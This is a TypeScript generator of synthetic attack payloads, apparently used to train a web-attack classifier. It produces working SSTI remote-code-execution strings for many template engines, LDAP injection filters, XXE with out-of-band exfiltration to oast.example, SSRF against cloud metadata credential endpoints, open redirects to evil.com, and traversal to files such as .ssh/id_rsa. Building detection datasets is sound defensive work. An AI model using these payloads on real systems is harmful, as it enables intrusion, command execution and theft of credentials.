// Generates attack payloads (logical values, not yet placed or encoded) for the classes whose rows come
// almost all from one collection: SSTI across template engines, LDAP filters, XXE, SSRF targets, open
// redirects and traversal. Written from the engines' and protocols' own syntax, not copied from any list,
// so that leaving one collection out (make eval-loso) does not leave a class with nothing to learn from.
// Called by build.ts, which places each payload into wire contexts like a source payload; the source of
// each is `gen:<class>:<family>` (never in a leave-one-source-out fold: it trains every fold model).

import { Rng } from './rng.ts';

export interface GenPayload { text: string; cls: string; family: string }

const CMD = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls /', 'hostname', 'sleep 5', 'nslookup x.oast.example', 'curl http://oast.example/x', 'ping -c 1 10.0.0.1'];
const NUM = (r: Rng) => String(r.int(2, 99));
const quote = (r: Rng, s: string) => (r.chance(0.5) ? `'${s}'` : `"${s}"`);

// --------------------------------------------------------------------------------- SSTI, one family per engine

const SSTI: Record<string, (r: Rng) => string> = {
  // Jinja2 / Flask: arithmetic probes, object-graph walks to os, config and globals.
  jinja: (r) => r.pick([
    () => `{{${NUM(r)}*${NUM(r)}}}`,
    () => `{{${NUM(r)}*'${NUM(r)}'}}`,
    () => `{{config}}`, () => `{{config.items()}}`, () => `{{settings.SECRET_KEY}}`, () => `{{self.__dict__}}`,
    () => `{{''.__class__.__mro__[1].__subclasses__()}}`,
    () => `{{''.__class__.__base__.__subclasses__()[${r.int(40, 420)}](${quote(r, r.pick(CMD))},shell=True,stdout=-1).communicate()}}`,
    () => `{{${r.pick(['lipsum', 'cycler', 'joiner', 'namespace', 'url_for', 'get_flashed_messages', 'request.application'])}.__globals__.os.popen(${quote(r, r.pick(CMD))}).read()}}`,
    () => `{{${r.pick(['cycler', 'joiner'])}.__init__.__globals__.os.popen(${quote(r, r.pick(CMD))}).read()}}`,
    () => `{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}`,
    () => `{{self._TemplateReference__context.cycler.__init__.__globals__.os.system(${quote(r, r.pick(CMD))})}}`,
    () => `{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(${quote(r, r.pick(CMD))}).read()}}{% endif %}{% endfor %}`,
    () => `{% import os %}{{os.popen(${quote(r, r.pick(CMD))}).read()}}`,
    () => `{{ namespace.__init__.__globals__.os.environ }}`,
  ])(),
  // Twig (PHP).
  twig: (r) => r.pick([
    () => `{{_self.env.registerUndefinedFilterCallback("${r.pick(['exec', 'system', 'passthru', 'shell_exec'])}")}}{{_self.env.getFilter("${r.pick(CMD)}")}}`,
    () => `{{[${quote(r, r.pick(CMD))}]|filter('${r.pick(['system', 'exec', 'passthru'])}')}}`,
    () => `{{[${quote(r, r.pick(CMD))}]|map('${r.pick(['system', 'passthru'])}')|join}}`,
    () => `{{${NUM(r)}*${NUM(r)}}}{{_self}}`, () => `{{app.request.server.all|join(',')}}`, () => `{{dump(app)}}`,
    () => `{{['cat /etc/passwd']|filter('system')}}`, () => `{{'/etc/passwd'|file_excerpt(1,30)}}`,
  ])(),
  // Freemarker and Java EL / Spring EL / OGNL.
  java: (r) => r.pick([
    () => `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex(${quote(r, r.pick(CMD))})}`,
    () => `\${"freemarker.template.utility.Execute"?new()(${quote(r, r.pick(CMD))})}`,
    () => `\${${NUM(r)}*${NUM(r)}}`, () => `#{${NUM(r)}*${NUM(r)}}`, () => `\${{${NUM(r)}*${NUM(r)}}}`,
    () => `\${T(java.lang.Runtime).getRuntime().exec(${quote(r, r.pick(CMD))})}`,
    () => `\${T(java.lang.System).getenv()}`, () => `*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('${r.pick(CMD)}').getInputStream())}`,
    () => `__\${T(java.lang.Runtime).getRuntime().exec("${r.pick(CMD)}")}__::.x`,
    () => `\${pageContext.request.getSession().setAttribute("a","b")}`, () => `\${applicationScope}`, () => `\${sessionScope.user}`,
    () => `%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('${r.pick(CMD)}'))}`,
    () => `%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('${r.pick(CMD)}')}`,
    () => `\${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('${r.pick(CMD)}')}`,
    () => `\${new java.lang.ProcessBuilder(${quote(r, 'sh')},${quote(r, '-c')},${quote(r, r.pick(CMD))}).start()}`,
  ])(),
  // Velocity and Smarty.
  velocity: (r) => r.pick([
    () => `#set($x=${NUM(r)}*${NUM(r)})$x`, () => `#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${r.pick(CMD)}")`,
    () => `$class.inspect("java.lang.Runtime").type.getRuntime().exec("${r.pick(CMD)}").waitFor()`,
    () => `#foreach($i in [1..${NUM(r)}])$i#end`,
    () => `{php}echo \`${r.pick(CMD)}\`;{/php}`, () => `{system('${r.pick(CMD)}')}`, () => `{$smarty.version}`,
    () => `{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['c']); ?>",self::clearConfig())}`,
    () => `{if system('${r.pick(CMD)}')}{/if}`,
  ])(),
  // Ruby ERB / Slim, Python Mako and Tornado, Elixir EEx, ASP.NET Razor.
  erb: (r) => r.pick([
    () => `<%= ${NUM(r)}*${NUM(r)} %>`, () => `<%= system(${quote(r, r.pick(CMD))}) %>`, () => `<%= \`${r.pick(CMD)}\` %>`,
    () => `<%= IO.popen(${quote(r, r.pick(CMD))}).readlines() %>`, () => `<%= File.open('/etc/passwd').read %>`, () => `<%= Dir.entries('/') %>`,
    () => `#{${NUM(r)}*${NUM(r)}}`, () => `#{\`${r.pick(CMD)}\`}`,
    () => `\${self.module.cache.util.os.system(${quote(r, r.pick(CMD))})}`, () => `<% import os %>\${os.popen(${quote(r, r.pick(CMD))}).read()}`,
    () => `<%= System.cmd(${quote(r, 'id')}, []) %>`, () => `<%= File.read!("/etc/passwd") %>`, () => `<%= :os.cmd('${r.pick(CMD)}') %>`,
    () => `@(${NUM(r)}*${NUM(r)})`, () => `@System.Diagnostics.Process.Start("cmd.exe","/c ${r.pick(CMD)}")`, () => `@{ var x = ${NUM(r)}*${NUM(r)}; }@x`,
  ])(),
  // JavaScript engines: Handlebars, Pug/Jade, EJS, Nunjucks, doT, Underscore, Vue/Angular client templates.
  js: (r) => r.pick([
    () => `{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}`,
    () => `#{${NUM(r)}*${NUM(r)}}`, () => `#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('${r.pick(CMD)}')}()}`,
    () => `<%- global.process.mainModule.require('child_process').execSync(${quote(r, r.pick(CMD))}) %>`, () => `<%= ${NUM(r)}*${NUM(r)} %>`,
    () => `{{range.constructor("return global.process.mainModule.require('child_process').execSync('${r.pick(CMD)}')")()}}`,
    () => `{{=${NUM(r)}*${NUM(r)}}}`, () => `{{constructor.constructor('alert(1)')()}}`, () => `{{$on.constructor('alert(1)')()}}`,
    () => `{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","alert(1)"].sort(toString.constructor)}}`,
    () => `<%= process.env %>`, () => `\${process.mainModule.require('child_process').execSync('${r.pick(CMD)}')}`,
  ])(),
  // Go templates and generic polyglot probes.
  probe: (r) => r.pick([
    () => `{{printf "%s" .}}`, () => `{{.}}`, () => `{{ .Env }}`, () => `{{call .Exec "${r.pick(CMD)}"}}`,
    () => `\${{<%[%'"}}%\\.`, () => `{{${NUM(r)}*${NUM(r)}}}\${${NUM(r)}*${NUM(r)}}<%= ${NUM(r)}*${NUM(r)} %>`, () => `[[\${${NUM(r)}*${NUM(r)}}]]`,
    () => `{${NUM(r)}*${NUM(r)}}`, () => `\${${NUM(r)}+${NUM(r)}}`, () => `{{${NUM(r)}+${NUM(r)}}}`, () => `@{${NUM(r)}*${NUM(r)}}`,
  ])(),
};

// --------------------------------------------------------------------------------- LDAP filter injection

const LDAP_ATTRS = ['uid', 'cn', 'sn', 'mail', 'objectClass', 'userPassword', 'givenName', 'memberOf', 'sAMAccountName', 'description', 'telephoneNumber', 'ou'];
function ldap(r: Rng): string {
  const a = () => r.pick(LDAP_ATTRS);
  const user = r.pick(['admin', 'administrator', 'root', 'jdoe', '*', 'guest', 'test']);
  return r.pick([
    () => `*)(${a()}=*))(|(${a()}=*`, () => `${user})(&)`, () => `${user})(|(${a()}=*)`, () => `*)(|(${a()}=*)`, () => `${user}*)((|${a()}=*)`,
    () => `*)(${a()}=*))%00`, () => `${user})(${a()}=*))\x00`, () => `*()|&'`, () => `*)(objectClass=*`, () => `${user})(!(${a()}=*))`,
    () => `x*)(|(${a()}=${r.pick(['a', 'b', 'c', 'd'])}*))`, () => `${user})(${a()}=${r.pick(['a*', '*a*', '?*'])})`,
    () => `(&(${a()}=${user})(${a()}=*))`, () => `(|(${a()}=*)(${a()}=*))`, () => `*))(|(${a()}=*`, () => `${user}))(|(objectclass=*)`,
    () => `*)(uid=*))(|(uid=*`, () => `${user})(|(password=*))`, () => `admin)(!(&(1=0`, () => `*)(&(objectClass=user)(${a()}=*)`,
  ])();
}

// --------------------------------------------------------------------------------- XXE

const XXE_TARGETS = ['file:///etc/passwd', 'file:///etc/hostname', 'file:///c:/windows/win.ini', 'file:///proc/self/environ', 'http://169.254.169.254/latest/meta-data/',
  'php://filter/convert.base64-encode/resource=index.php', 'expect://id', 'http://oast.example/x.dtd', 'jar:file:///tmp/a.zip!/a.txt', 'netdoc:/etc/passwd', 'gopher://127.0.0.1:25/'];
function xxe(r: Rng): string {
  const t = r.pick(XXE_TARGETS);
  const root = r.pick(['foo', 'root', 'data', 'user', 'request', 'svg', 'message', 'order']);
  const ent = r.pick(['xxe', 'x', 'file', 'e', 'ent', 'payload']);
  const decl = r.chance(0.5) ? '<?xml version="1.0" encoding="UTF-8"?>' : r.chance(0.5) ? '<?xml version="1.0"?>' : '';
  return r.pick([
    () => `${decl}<!DOCTYPE ${root} [<!ENTITY ${ent} SYSTEM "${t}">]><${root}>&${ent};</${root}>`,
    () => `${decl}<!DOCTYPE ${root} [<!ELEMENT ${root} ANY><!ENTITY ${ent} SYSTEM "${t}">]><${root}><name>&${ent};</name></${root}>`,
    () => `${decl}<!DOCTYPE ${root} [<!ENTITY % ${ent} SYSTEM "${t}">%${ent};]><${root}/>`,
    () => `<!DOCTYPE ${root} [<!ENTITY % d SYSTEM "http://oast.example/evil.dtd"> %d; %param1;]><${root}>&exfil;</${root}>`,
    () => `<!ENTITY % file SYSTEM "${t}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://oast.example/?x=%file;'>">%eval;%exfil;`,
    () => `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${t}"/></${root}>`,
    () => `${decl}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
    () => `${decl}<!DOCTYPE svg [<!ENTITY ${ent} SYSTEM "${t}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&${ent};</text></svg>`,
    () => `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE x [<!ENTITY ${ent} SYSTEM "${t}">]><x>&${ent};</x></soap:Body></soap:Envelope>`,
    () => `${decl}<!DOCTYPE ${root} SYSTEM "${t}"><${root}>1</${root}>`,
  ])();
}

// --------------------------------------------------------------------------------- SSRF targets

const METADATA = ['169.254.169.254/latest/meta-data/', '169.254.169.254/latest/meta-data/iam/security-credentials/', '169.254.169.254/latest/user-data',
  'metadata.google.internal/computeMetadata/v1/', '169.254.169.254/metadata/instance?api-version=2021-02-01', '100.100.100.200/latest/meta-data/',
  '169.254.169.254/metadata/v1.json', '169.254.169.254/opc/v1/instance/', '169.254.170.2/v2/credentials', 'metadata/computeMetadata/v1/instance/'];
const LOOPBACK = ['127.0.0.1', 'localhost', '127.1', '0.0.0.0', '0', '[::1]', '[::]', '[0:0:0:0:0:ffff:127.0.0.1]', '2130706433', '0x7f000001', '0177.0.0.1',
  '017700000001', '127.0.0.1.nip.io', 'localtest.me', '[::ffff:7f00:1]', '①②⑦.⓪.⓪.①', '127.000.000.001', 'spoofed.burpcollaborator.net', '10.0.0.1', '192.168.0.1', '172.16.0.1'];
const PORTS = ['', '', ':22', ':25', ':6379', ':11211', ':9200', ':2375', ':8500', ':8080', ':3306', ':5432', ':80', ':443', ':10250'];
// A loopback name with a port and a path (`http://localhost:1234/schema.json`) is what developers,
// OAuth redirect URIs and JSON-Schema `$ref`s send every day: an address is only SSRF-shaped when it
// is spelled to slip past a filter, names cloud metadata or an internal service, or uses a scheme
// other than http(s).
function ssrf(r: Rng): string {
  const host = r.pick(LOOPBACK.filter((h) => h !== 'localhost'));
  const service = r.pick(SERVICES);
  return r.pick([
    () => `http://${r.pick(METADATA)}`, () => `https://${r.pick(METADATA)}`, () => `http://${host}:${service}`,
    () => `${r.pick(['gopher', 'dict', 'ftp', 'tftp', 'ldap', 'sftp'])}://${r.pick(LOOPBACK)}${r.pick(PORTS)}/${r.pick(['_', '', 'INFO', 'stats', '%0D%0AINFO%0D%0A'])}`,
    () => `file://${r.pick(['/etc/passwd', '/proc/self/environ', '/c:/windows/win.ini', 'localhost/etc/hosts'])}`,
    () => `http://${r.pick(['example.com', 'trusted.example', 'cdn.example.org'])}@${host}/${r.pick(['admin', 'internal', ''])}`,
    () => `http://${host}#@${r.pick(['example.com', 'trusted.example'])}`, () => `http://${r.pick(['example.com', 'trusted.example'])}.${host}.nip.io/`,
    () => `jar:http://${host}!/`, () => `netdoc:///etc/passwd`, () => `//${r.pick(METADATA)}`, () => `http://[fd00:ec2::254]/latest/meta-data/`,
  ])();
}
const SERVICES = ['6379/', '11211/', '9200/_cat/indices', '2375/containers/json', '8500/v1/agent/self', '10250/pods', '2379/v2/keys', '8080/manager/html', '5984/_all_dbs', '9000/', '4848/', '22/', '25/'];

// --------------------------------------------------------------------------------- open redirect

const EVIL = ['evil.com', 'attacker.example', 'evil.example.net', 'phish.example', 'google.com', '3627734734', '0xd8.0x3a.0xd6.0xce', '216.58.214.206'];
function redirect(r: Rng): string {
  const e = r.pick(EVIL);
  const t = r.pick(['example.com', 'www.example.com', 'trusted.example', 'app.example.org']);
  return r.pick([
    () => `//${e}`, () => `///${e}`, () => `////${e}`, () => `/\\${e}`, () => `\\\\${e}`, () => `\\/\\/${e}`, () => `/%09/${e}`, () => `/%5c${e}`, () => `/%2f%2f${e}`,
    () => `https:${e}`, () => `http:/\\/\\${e}`, () => `https://${t}@${e}`, () => `https://${e}\\@${t}`,
    () => `//${e}/%2e%2e`, () => `//${e}%2f..`, () => `//${e}%E3%80%82${r.pick(['com', 'net'])}`, () => `/.${e}`, () => `〱${e}`,
    () => `//${e}//${t}`, () => `https://${t}%2F%2F${e}`, () => `%2F%2F${e}`, () => `http://${e}%23.${t}`,
  ])();
}

// --------------------------------------------------------------------------------- traversal (and absolute paths)

const DOTS = ['../', '..\\', '..%2f', '%2e%2e%2f', '%2e%2e/', '..%5c', '%2e%2e%5c', '%252e%252e%252f', '..%c0%af', '..%c1%9c', '....//', '..;/', '%u002e%u002e/', '..%255c', '.%2e/', '%2e./', '..///', '..\\/'];
const TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/issue', 'proc/self/environ', 'proc/self/cmdline', 'proc/version', 'windows/win.ini', 'windows/system32/drivers/etc/hosts',
  'boot.ini', 'WEB-INF/web.xml', 'WEB-INF/classes/application.properties', '.env', '.git/config', '.ssh/id_rsa', 'var/log/apache2/access.log', 'var/www/html/config.php',
  'inetpub/wwwroot/web.config', 'usr/local/etc/php.ini', 'root/.bash_history', 'app/config/parameters.yml', 'wp-config.php'];
function traversal(r: Rng): string {
  const d = r.pick(DOTS);
  const depth = r.int(1, 10);
  const target = r.pick(TARGETS);
  const t = d.includes('\\') || d.includes('%5c') ? target.replace(/\//g, r.chance(0.5) ? '\\' : '/') : target;
  const suffix = r.pick(['', '', '', '%00', '%00.jpg', '%00.png', '?', '#', '.html', '%2500']);
  return r.pick([
    () => `${d.repeat(depth)}${t}${suffix}`, () => `/${d.repeat(depth)}${t}`, () => `${r.pick(['images', 'static', 'files', 'uploads', 'templates', 'lang'])}/${d.repeat(depth)}${t}${suffix}`,
    () => `${r.pick(['php://filter/convert.base64-encode/resource=', 'php://filter/read=string.rot13/resource=', 'file://', 'zip://', 'phar://'])}${r.pick(['/' + target, '../'.repeat(depth) + target, 'index.php'])}`,
    () => `${r.pick(['C:\\', 'c:/', '\\\\localhost\\c$\\'])}${target.replace(/\//g, '\\')}`,
    // No parent steps at all: a file parameter handed an absolute path (`page=/etc/passwd`) reads it
    // just the same where the code joins nothing in front; every traversal list has such lines.
    () => `/${target}${suffix}`, () => `/${target.split('/').join(r.pick(['//', '/./', '/']))}${suffix}`,
  ])();
}

// --------------------------------------------------------------------------------- all

export function generatePayloads(rng: Rng, perFamily: number): GenPayload[] {
  const out: GenPayload[] = [];
  const seen = new Set<string>();
  const add = (cls: string, family: string, gen: (r: Rng) => string, n: number) => {
    for (let i = 0, tries = 0; i < n && tries < n * 4; tries++) {
      const text = gen(rng);
      if (seen.has(text)) continue;
      seen.add(text);
      out.push({ text, cls, family });
      i++;
    }
  };
  for (const [family, gen] of Object.entries(SSTI)) add('ssti', family, gen, perFamily);
  add('ldapi', 'filters', ldap, perFamily);
  add('xxe', 'entities', xxe, perFamily);
  add('ssrf', 'targets', ssrf, perFamily);
  add('open_redirect', 'targets', redirect, perFamily);
  add('traversal', 'sequences', traversal, perFamily);
  return out;
}
